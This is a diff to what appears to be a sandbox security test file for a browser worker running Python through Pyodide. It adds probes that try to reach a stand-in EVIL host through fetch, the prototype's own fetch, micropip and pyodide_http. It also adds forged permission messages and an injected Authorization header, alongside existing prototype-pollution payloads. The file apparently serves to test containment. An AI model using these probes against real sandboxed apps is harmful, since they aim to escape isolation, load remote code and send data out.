@@ -18,6 +18,8 @@ IN_THE_WORKER = {
     "locks": "return String(await navigator.locks.query())",
     "fetch elsewhere": "return (await fetch(EVIL + 'fetch')).status",
     "fetch without cors": "return (await fetch(EVIL + 'no-cors', { mode: 'no-cors' })).type",
+    "fetch once more": "return (await fetch(EVIL + 'again')).status || (await fetch(new Request(EVIL + 'request', { method: 'POST', body: 'x' }))).status",
+    "the browser's own fetch": "return (await WorkerGlobalScope.prototype.fetch?.call(self, EVIL + 'own') ?? await Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(self)), 'fetch')?.value.call(self, EVIL + 'own'))?.status",
     "fetch home": "return (await fetch(OWN + 'index.html')).status",
     "fetch home's files": "return (await fetch(OWN + 'static/vendor/app.zip', { mode: 'no-cors' })).type",
     "fetch data": "return (await fetch('data:text/plain,x')).status",
@@ -64,6 +66,9 @@ IN_THE_WORKER = {
       MessagePort.prototype.postMessage = postMessage;
       const evil = JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}');
       for (const message of [evil, [evil], ['__proto__', evil], ['constructor', 'x'], ['toString'], ['out', evil], ['file', evil, evil], ['file', '../../../x', new ArrayBuffer(1)],
+        ['want', 901, JSON.stringify({ method: 'GET', url: EVIL + 'forged', headers: [], integrity: '' }), new ArrayBuffer(0)], ['granted', 901, 1], ['permit', 901, EVIL],
+        ['want', 902, JSON.stringify({ method: 'POST', url: OWN + 'v1/models', headers: [['Authorization', 'x']], integrity: '' }), new ArrayBuffer(9)],
+        ['need', 903, 'numpy'], ['want', 904, JSON.stringify({ method: 'GET', url: 'wall:/numpy.whl', headers: [], integrity: '' })], ['want', evil], ['reached', EVIL, '1'],
         ['ended'.repeat(9), evil], ['ask', evil], ['broken\\u0000', 1], null, 7, [['out'], 'x'], ['do', 'startOver'], { port: 1 }]) self.stolen?.postMessage(message);
       self.postMessage({ workers: 1 }); self.postMessage(['do', 'startOver']);
       return ''""",
@@ -78,6 +83,8 @@ IN_PYTHON = {
     "open_url": "from pyodide.http import open_url\nopen_url(EVIL + 'open-url').read()",
     "a package of elsewhere": "import pyodide_js\nawait pyodide_js.loadPackage(EVIL + 'x-1.0-py3-none-any.whl')\nimport x",
     "a package by name": "import pyodide_js\nawait pyodide_js.loadPackage('numpy')\nimport numpy\nnumpy.pi",
+    "micropip": "import micropip\nawait micropip.install(EVIL + 'x-1.0-py3-none-any.whl')",
+    "pyodide-http": "import pyodide_http\npyodide_http.patch_all()\nimport urllib.request\nurllib.request.urlopen(EVIL + 'http').status",
     "run js": "from pyodide.code import run_js\nrun_js('self.parent.location.href')",
     "the app": "import app.compose\napp.compose.__name__",
     "pyscript": "from pyscript import document\nstr(document)",
